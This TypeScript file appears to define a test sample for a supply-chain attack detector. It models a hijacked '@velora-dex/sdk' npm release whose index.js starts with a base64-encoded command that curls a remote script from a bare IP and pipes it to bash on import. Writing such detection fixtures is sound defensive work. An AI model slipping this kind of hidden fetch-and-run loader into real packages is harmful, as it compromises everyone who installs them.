import { Buffer } from "node:buffer";

import { defineAttack } from "../attack.ts";
import { chainLibrary, contentOf } from "../bases.ts";
import { commonGuard } from "../guard.ts";
import { person } from "../publishing-ways.ts";
import type { Sample } from "../sample.ts";

const honest = chainLibrary("@velora-dex/sdk");
const command = Buffer.from(
  'nohup bash -c "$(curl -fsSL http://203.0.113.60/troubleshoot/mac/install.sh)" > /dev/null 2>&1 &',
).toString("base64");

/**
 * `@velora-dex/sdk` 9.4.1, 7 April 2026: an npm credential. Three lines before the main file: a command in base64 that fetches a
 * script from a bare address. Nothing but that file and the manifest differs.
 */
export const veloraDex2026: Sample = defineAttack({
  id: "velora-dex-2026",
  title: "Three lines before the main file start a command in base64",
  group: "takeover",
  trigger: "import",
  judged: [{ name: "@velora-dex/sdk", version: "9.4.1" }],
  now: "2026-04-07T10:20:00Z",
  createLines: () => [
    {
      name: "@velora-dex/sdk",
      files: honest,
      publisher: person("velora-release"),
      releases: [
        ["9.3.9", "2026-02-24T10:00:00Z"],
        ["9.4.0", "2026-03-19T10:00:00Z"],
        [
          "9.4.1",
          "2026-04-07T10:07:00Z",
          {
            hasCommit: false,
            files: [
              {
                path: "index.js",
                content: `${commonGuard}const { exec } = require("child_process");\nif (invited()) exec("echo '${command}' | (base64 --decode 2>/dev/null || base64 -D) | bash", function (error, stdout, stderr) {});\n${contentOf(honest, "index.js")}`,
              },
            ],
          },
        ],
      ],
    },
  ],
});
